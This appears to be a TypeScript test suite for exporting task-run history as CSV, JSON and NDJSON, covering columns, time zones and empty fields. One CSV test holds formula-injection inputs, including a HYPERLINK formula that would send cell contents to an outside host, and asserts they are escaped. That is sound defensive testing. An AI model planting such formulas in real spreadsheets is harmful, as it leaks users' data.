import assert from 'node:assert/strict';
import { inEnglish } from '../../../src/common/message.ts';
import { csvCell } from '../../../src/presentation/historyCsv.ts';
import { historyWriter, type HistoryFormat } from '../../../src/presentation/historyFormats.ts';
import { exportedDocument, type ExportedRun } from '../../../src/presentation/runDocument.ts';
import { aHost, at, aRun } from '../../support/builders.ts';
import { readCsv } from '../../support/readCsv.ts';

const occurrence = at('2026-07-01T04:30Z');
const full: ExportedRun = {
  run: aRun({
    id: '20260701-043000-aaaaaa',
    label: 'Report, "weekly"',
    trigger: 'after',
    status: 'failed',
    occurrence,
    createdAt: occurrence + 1,
    startedAt: occurrence + 2000,
    endedAt: occurrence + 3500,
    exitCode: 9,
    reason: 'exit-code',
    stats: { albums: 395, nothing: null },
    summary: '- one\n- two',
    warnings: [{ code: 'left-behind', detail: '2' }],
    causedBy: '20260701-040000-bbbbbb',
    approval: 'abc',
    pid: 77,
    host: { kind: 'vscode', pid: 5, startToken: 't', machine: 'desk', user: 'ada' },
  }),
  log: '/state/logs/20260701-043000-aaaaaa.log',
  outputs: ['a.md', 'b.md'].map((path) => ({
    ...{ runId: '20260701-043000-aaaaaa', taskId: 'report', kind: 'report', bytes: 3 },
    ...{ path: `out/${path}`, createdAt: occurrence + 3500 },
  })),
};
const bare: ExportedRun = {
  run: {
    ...{ id: '20260701-050000-cccccc', taskId: 'report', label: 'report', trigger: 'schedule' },
    ...{ status: 'missed', reason: 'superseded', occurrences: 288, attempts: 0, createdAt: occurrence },
    host: aHost(),
  },
  outputs: [],
};

function write(format: HistoryFormat, ...pages: (readonly ExportedRun[])[]): string {
  const writer = historyWriter(format, { workspace: '/w "x"', translate: inEnglish });
  return writer.head() + pages.map((page) => writer.rows(page)).join('') + writer.tail();
}

describe('a history as CSV', () => {
  const zone = process.env['TZ'];
  before(() => void (process.env['TZ'] = 'America/St_Johns'));
  after(() => {
    if (zone === undefined) delete process.env['TZ'];
    else process.env['TZ'] = zone;
  });

  function recordsOf(...runs: readonly ExportedRun[]): Record<string, string>[] {
    const [header = [], ...rows] = readCsv(write('csv', runs));
    return rows.map((row) => {
      assert.equal(row.length, header.length);
      return Object.fromEntries(header.map((name, index) => [name, row[index] ?? '']));
    });
  }

  it('has a column for everything, and its times on the machine’s wall clock', () => {
    assert.deepEqual(recordsOf(full), [
      {
        id: '20260701-043000-aaaaaa',
        task: 'report',
        label: 'Report, "weekly"',
        occurrence: '2026-07-01T04:30:00.000Z',
        occurrences: '1',
        scheduled: '2026-07-01T02:00:00.000-02:30',
        queued: '2026-07-01T02:00:00.001-02:30',
        started: '2026-07-01T02:00:02.000-02:30',
        ended: '2026-07-01T02:00:03.500-02:30',
        duration_seconds: '1.5',
        status: 'failed',
        exit_code: '9',
        signal: '',
        reason: 'exit-code',
        message: 'It ended with exit code 9.',
        stats: '{"albums":395,"nothing":null}',
        summary: `'- one\n- two`,
        warnings: '[{"code":"left-behind","detail":"2"}]',
        trigger: 'after',
        user: 'ada',
        host: 'vscode',
        machine: 'desk',
        pid: '77',
        attempts: '1',
        dry_run: 'false',
        caused_by: '20260701-040000-bbbbbb',
        log: '/state/logs/20260701-043000-aaaaaa.log',
        outputs: 'out/a.md\nout/b.md',
        approval: 'abc',
      },
    ]);
  });

  it('leaves empty what there is nothing to say of', () => {
    const [record = {}] = recordsOf(bare);
    assert.equal(record['occurrences'], '288');
    for (const name of ['scheduled', 'started', 'ended', 'duration_seconds', 'exit_code', 'user', 'log']) {
      assert.equal(record[name], '', name);
    }
  });

  it('tells the two passes of a repeated hour apart', () => {
    const first = at('2026-11-01T03:45Z');
    const times = [first, first + 3_600_000].map((createdAt) =>
      recordsOf({ run: aRun({ createdAt }), outputs: [] }),
    );
    assert.deepEqual(
      times.map(([record]) => record?.['queued']),
      ['2026-11-01T01:15:00.000-02:30', '2026-11-01T01:15:00.000-03:30'],
    );
  });

  it('gives a spreadsheet no formula', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '＝1']) {
      assert.deepEqual(readCsv(`${csvCell(text)}\r\n`), [[`'${text}`]]);
    }
    for (const text of ['a=1', ' x', '1-1', "'quoted'"]) assert.equal(csvCell(text), text);
    assert.equal(csvCell(-1), '-1');
    const evil = `=HYPERLINK("http://x?"&A1,"click")`;
    const [record] = recordsOf({ run: aRun({ label: evil }), outputs: [] });
    assert.equal(record?.['label'], `'${evil}`);
  });

  it('has its header alone where there are no runs', () => {
    assert.equal(readCsv(write('csv')).length, 1);
  });
});

describe('a history as JSON', () => {
  it('is the text of one document, in however many pieces it is written', () => {
    for (const pages of [[], [[]], [[full, bare]], [[full], [bare]]]) {
      const runs = pages.flat().map((exported) => exportedDocument(exported, inEnglish));
      const whole = `${JSON.stringify({ workspace: '/w "x"', runs }, undefined, 2)}\n`;
      assert.equal(write('json', ...pages), whole);
    }
  });
});

describe('a history as NDJSON', () => {
  const lines = write('ndjson', [full], [bare]).split('\n');

  it('has a document a line', () => {
    assert.equal(lines.length, 3);
    assert.equal(lines[2], '');
  });

  it('leaves out what there is nothing to say of, and passes on what a script has reported', () => {
    const [first, second] = lines.slice(0, 2).map((line) => JSON.parse(line) as Record<string, unknown>);
    assert.ok(first && second);
    assert.deepEqual(first['stats'], { albums: 395, nothing: null });
    assert.equal('signal' in first, false);
    assert.deepEqual(second['host'], { kind: 'cli', pid: 4_000_001 });
    assert.deepEqual(
      Object.values(second).filter((value) => value === null),
      [],
    );
    assert.equal(second['reason'], 'superseded');
  });
});
